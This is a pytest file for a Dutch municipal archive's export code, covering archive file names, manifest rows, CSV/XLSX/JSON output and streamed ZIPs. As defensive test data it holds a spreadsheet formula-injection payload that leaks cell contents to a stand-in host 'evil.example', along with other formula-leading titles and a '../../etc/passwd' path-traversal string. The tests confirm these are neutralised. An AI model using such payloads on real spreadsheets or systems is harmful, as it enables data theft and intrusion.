"""Exports: readable archive names, manifest rows, CSV/XLSX/JSON and a ZIP written to a stream that cannot
seek; CSV that Dutch Excel opens and that no spreadsheet reads as formulas."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from pathlib import Path

import pytest
from docx import Document
from reportlab.pdfgen import canvas

from archive import Catalog, OriginalStore
from archive.store import sha256_file
from archive.records import Document as ArchivedDocument
from indexer.service.export import COLUMNS, archive_name, iter_zip, manifest_rows, write_csv, write_json, write_xlsx, write_zip
from indexer.ingest.manifest import Manifest

BOM = "\ufeff".encode("utf-8")
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")'


def read_as_excel(data: bytes) -> list[dict]:
    """What Dutch Excel does on a double-click: UTF-8 only when the file starts with a byte-order
    mark (else the ANSI code page), ';' as the list separator of the Dutch locale."""
    assert data.startswith(BOM), "without a BOM Excel reads UTF-8 as cp1252: 'SkarsterlÃ¢n'"
    text = data.decode("utf-8-sig")
    assert text.split("\r\n", 1)[0].startswith("id;sha256;archive_name;")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def read_xlsx(data: bytes) -> list[dict]:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(data)).active
    header, *rows = sheet.iter_rows()
    names = [cell.value for cell in header]
    return [{name: cell for name, cell in zip(names, row, strict=True)} for row in rows]


def make_pdf(path: Path, lines: list[str]) -> Path:
    pdf = canvas.Canvas(str(path))
    for number, line in enumerate(lines):
        pdf.drawString(72, 760 - 16 * number, line)
    pdf.save()
    return path


def make_docx(path: Path, title: str, body: str) -> Path:
    document = Document()
    document.add_heading(title, level=1)
    document.add_paragraph(body)
    document.save(str(path))
    return path


def archive_file(catalog: Catalog, store: OriginalStore, path: Path, *, detected: dict, arrived_as: list[str]) -> str:
    sha, size = sha256_file(path)
    ext = path.suffix.lstrip(".")
    store.put(path, sha, ext)
    return catalog.add_document(
        sha256=sha, size=size, ext=ext,
        extraction={"format": ext, "mime": "application/octet-stream", "text": "tekst", "pages": 1},
        failure=None, detected=detected,
        arrivals=[{"path": p, "size": size, "mtime_ns": 1, "run_id": None} for p in arrived_as],
    )


MANDAAT = {
    "title": {"value": "Mandaatbesluit Dinkelland 2013"},
    "type": {"value": "mandaatbesluit"},
    "date": {"value": "2013-04-09"},
    "language": {"value": "nl"},
    "issuer": "GM1774",
    "municipalities": [{"code": "GM1774", "name": "Dinkelland", "role": "issuer"},
                       {"code": "GM0183", "name": "Tubbergen", "role": "participant"}],
    "organisations": [{"key": "noaberkracht", "name": "Noaberkracht"}],
}


@pytest.fixture
def archive(tmp_path):
    """A catalog and store with three real originals: two share every part of their name."""
    catalog = Catalog(tmp_path / "data" / "catalog.sqlite3")
    store = OriginalStore(tmp_path / "data" / "originals")
    inbox = tmp_path / "in"
    inbox.mkdir()
    ids = {
        "pdf": archive_file(catalog, store, make_pdf(inbox / "mandaat.pdf", ["Mandaatbesluit Dinkelland", "Artikel 1"]),
                            detected=MANDAAT, arrived_as=[str(inbox / "mandaat.pdf"), "/elders/kopie.pdf"]),
        "twin": archive_file(catalog, store, make_pdf(inbox / "mandaat2.pdf", ["Mandaatbesluit Dinkelland", "Artikel 2"]),
                             detected=MANDAAT, arrived_as=[str(inbox / "mandaat2.pdf")]),
        "docx": archive_file(catalog, store, make_docx(inbox / "Sociaal plan.docx", "Sociaal plan", "Voor medewerkers."),
                             detected={"title": {"value": "Sociaal plan ‘Één organisatie’ — BAR"},
                                       "type": {"value": "sociaal_plan"}, "date": {"value": "2014"}},
                             arrived_as=[str(inbox / "Sociaal plan.docx")]),
    }
    yield catalog, store, ids, inbox
    catalog.close()


def test_archive_name_is_readable_and_safe():
    doc = ArchivedDocument(**{"id": "0123456789abcdef", "issuer": "GM1982", "date": "2013-04-09", "type": "mandaatbesluit",
           "title": "Mandaatbesluit Land van Cuijk: ‘directeur’ & ../../etc/passwd", "ext": "pdf"})
    assert archive_name(doc) == "GM1982_2013-04-09_mandaatbesluit_land-van-cuijk-directeur-etc-passwd.pdf"
    accents = archive_name(ArchivedDocument(**{"id": "ab" * 8, "title": "Één Fusie à la Súdwest-Fryslân", "ext": "docx"}))
    assert accents == "een-fusie-a-la-sudwest-fryslan.docx"


def test_archive_name_is_bounded_and_never_empty():
    long_title = " ".join(["gemeenschappelijkeregeling"] * 40)
    name = archive_name(ArchivedDocument(**{"id": "ab" * 8, "issuer": "GM0363", "date": "2020", "type": "nota",
                         "title": long_title, "ext": "pdf"}))
    assert len(name) <= 100 and name.startswith("GM0363_2020_nota_gemeenschappelijkeregeling")
    assert not name.endswith("-.pdf")
    assert archive_name(ArchivedDocument(**{"id": "cd" * 8, "title": "<<>>", "ext": "../x"})) == "cdcdcdcdcdcdcdcd.x"
    # no title: the file name it arrived under serves
    assert archive_name(ArchivedDocument(**{"id": "ef" * 8, "filenames": ["Besluit raad.PDF"], "ext": "pdf"})) == "besluit-raad.pdf"


def test_archive_name_adds_the_id_only_when_needed():
    taken: set[str] = set()
    first = ArchivedDocument(**{"id": "1" * 16, "type": "nota", "title": "Nota", "ext": "pdf"})
    second = ArchivedDocument(**{"id": "2" * 16, "type": "nota", "title": "Nota", "ext": "pdf"})
    assert archive_name(first, taken) == "nota.pdf"
    assert archive_name(second, taken) == f"nota_{'2' * 16}.pdf"


def test_manifest_rows_follow_the_given_order(archive):
    catalog, _store, ids, inbox = archive
    rows = manifest_rows(catalog, [ids["docx"], "ffffffffffffffff", ids["twin"], ids["pdf"]])
    assert [r["id"] for r in rows] == [ids["docx"], ids["twin"], ids["pdf"]]
    docx, twin, pdf = rows
    assert twin["archive_name"] == "GM1774_2013-04-09_mandaatbesluit_dinkelland-2013.pdf"
    assert pdf["archive_name"] == f"GM1774_2013-04-09_mandaatbesluit_dinkelland-2013_{ids['pdf']}.pdf"
    assert pdf["municipalities"] == ["GM1774", "GM0183"]
    assert pdf["municipality_names"] == ["Dinkelland", "Tubbergen"]
    assert pdf["organisations"] == ["noaberkracht"]
    assert sorted(pdf["filenames"]) == ["kopie.pdf", "mandaat.pdf"]
    assert docx["archive_name"] == "2014_sociaal-plan_een-organisatie-bar.docx"
    assert docx["size"] == (inbox / "Sociaal plan.docx").stat().st_size


def test_csv_and_json_carry_the_same_rows(archive):
    catalog, _store, ids, _inbox = archive
    rows = manifest_rows(catalog, list(ids.values()))
    text = io.StringIO(newline="")
    write_csv(text, rows)
    parsed = read_as_excel(text.getvalue().encode("utf-8"))
    assert [r["id"] for r in parsed] == [r["id"] for r in rows]
    assert parsed[0]["municipalities"] == "GM1774;GM0183"
    assert parsed[0]["title"] == "Mandaatbesluit Dinkelland 2013"
    as_json = io.StringIO()
    write_json(as_json, rows)
    assert json.loads(as_json.getvalue()) == rows


class Pipe(io.RawIOBase):
    """A write-only stream like a socket: no tell, no seek."""

    def __init__(self):
        self.data = bytearray()

    def writable(self):
        return True

    def write(self, b):
        self.data += b
        return len(b)

    def seekable(self):
        return False

    def tell(self):
        raise OSError("not seekable")


def test_zip_on_a_stream_holds_originals_byte_for_byte_and_manifests(archive):
    catalog, store, ids, _inbox = archive
    pipe = Pipe()
    written = write_zip(pipe, catalog, store, [ids["pdf"], ids["twin"], ids["docx"]])
    assert written == len(pipe.data) > 0
    with zipfile.ZipFile(io.BytesIO(bytes(pipe.data))) as result:
        assert result.testzip() is None
        names = result.namelist()
        manifest = json.loads(result.read("manifest.json"))
        assert names[:3] == ["manifest.csv", "manifest.xlsx", "manifest.json"]
        assert names[3:] == [row["archive_name"] for row in manifest]
        for row in manifest:
            assert hashlib.sha256(result.read(row["archive_name"])).hexdigest() == row["sha256"]
        csv_rows = read_as_excel(result.read("manifest.csv"))
        assert [r["archive_name"] for r in csv_rows] == [r["archive_name"] for r in manifest]
        xlsx_rows = read_xlsx(result.read("manifest.xlsx"))
        assert [r["archive_name"].value for r in xlsx_rows] == [r["archive_name"] for r in manifest]


def test_zip_streams_in_pieces_and_survives_a_missing_original(archive, tmp_path):
    catalog, store, ids, _inbox = archive
    missing = store.find(catalog.get(ids["docx"]).sha256)
    missing.unlink()
    chunks = list(iter_zip(catalog, store, [ids["pdf"], ids["docx"]]))
    assert sum(1 for c in chunks if c) >= 3, "manifests and each original go out as they are written"
    with zipfile.ZipFile(io.BytesIO(b"".join(chunks))) as result:
        manifest = json.loads(result.read("manifest.json"))
        assert [r["id"] for r in manifest] == [ids["pdf"], ids["docx"]]
        assert len(result.namelist()) == 4  # the manifests and the one original that still exists
    out = tmp_path / "export.zip"
    with open(out, "wb") as handle:
        write_zip(handle, catalog, store, [ids["pdf"]])
    assert zipfile.is_zipfile(out)


@pytest.fixture
def hostile(tmp_path):
    """A catalog whose titles and file names start like spreadsheet formulas, and a Frisian place name."""
    tmp_path = tmp_path / "hostile"
    catalog = Catalog(tmp_path / "data" / "catalog.sqlite3")
    store = OriginalStore(tmp_path / "data" / "originals")
    inbox = tmp_path / "in"
    inbox.mkdir(parents=True)
    titles = [HOSTILE_TITLE, "+31 20 123", "-2+3", "@SUM(A1)", "\tTab", "'=al eens beschermd", "Skarsterlân"]
    ids = []
    for number, title in enumerate(titles):
        path = inbox / f"doc{number}.txt"
        path.write_text(f"Document {number} over Skarsterlân", encoding="utf-8")
        ids.append(archive_file(catalog, store, path, detected={"title": {"value": title}},
                                arrived_as=[str(inbox / f"=cmd{number}.txt")]))
    yield catalog, ids, titles
    catalog.close()


def test_csv_cells_that_start_like_formulas_are_text_in_every_dialect(hostile):
    catalog, ids, titles = hostile
    rows = manifest_rows(catalog, ids)
    for dialect, separator in (("excel", ";"), ("rfc4180", ",")):
        text = io.StringIO(newline="")
        write_csv(text, rows, dialect)
        data = text.getvalue().encode("utf-8")
        assert data.startswith(BOM) == (dialect == "excel")
        parsed = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=separator))
        shown = [r["title"] for r in parsed]
        assert shown[:6] == ["'" + title for title in titles[:6]]
        assert shown[6] == "Skarsterlân"
        for row in parsed:
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
            assert row["filenames"].startswith("'=cmd")


def test_xlsx_holds_the_exact_values_as_text_cells(hostile):
    catalog, ids, titles = hostile
    out = io.BytesIO()
    write_xlsx(out, manifest_rows(catalog, ids))
    rows = read_xlsx(out.getvalue())
    assert list(rows[0]) == COLUMNS
    assert [r["title"].value for r in rows] == titles
    assert all(r["title"].data_type == "s" for r in rows), "a formula cell would be data_type 'f'"
    assert rows[0]["size"].data_type == "n" and rows[0]["size"].value > 0


def test_our_exported_manifest_is_read_back_as_a_metadata_manifest(archive, hostile, tmp_path):
    catalog, _store, ids, _inbox = archive
    hostile_catalog, hostile_ids, titles = hostile
    for name, (source, wanted) in {"excel.csv": (catalog, list(ids.values())),
                                   "hostile.csv": (hostile_catalog, hostile_ids)}.items():
        rows = manifest_rows(source, wanted)
        path = tmp_path / name
        with open(path, "w", encoding="utf-8", newline="") as out:
            write_csv(out, rows)
        manifest = Manifest.load(path)
        assert [row.target for row in manifest.rows] == [row["archive_name"] for row in rows]
        # (supplied values are stripped of surrounding white space, as any manifest value is)
        assert [row.values.get("title") for row in manifest.rows] == [row["title"].strip() for row in rows]
    mandaat = Manifest.load(tmp_path / "excel.csv").rows[0].values
    assert [m["code"] for m in mandaat["municipalities"]] == ["GM1774", "GM0183"]
    assert mandaat["type"] == "mandaatbesluit" and mandaat["issuer"] == "GM1774"


def test_manifest_separator_is_told_by_the_header_not_guessed(tmp_path):
    # Sniffer took ';' for the separator of this valid comma-separated file (the cells hold more ';').
    path = tmp_path / "metadata.csv"
    path.write_text('file,municipalities,title\r\na.pdf,"GM1774;GM0183;GM0189","Besluit; deel 1; bijlage"\r\n',
                    encoding="utf-8")
    row = Manifest.load(path).rows[0]
    assert row.target == "a.pdf" and row.values["title"] == "Besluit; deel 1; bijlage"
    path.write_text("\ufefffile;title\r\nb.pdf;Sociaal statuut, versie 2\r\n", encoding="utf-8")
    row = Manifest.load(path).rows[0]
    assert row.target == "b.pdf" and row.values["title"] == "Sociaal statuut, versie 2"
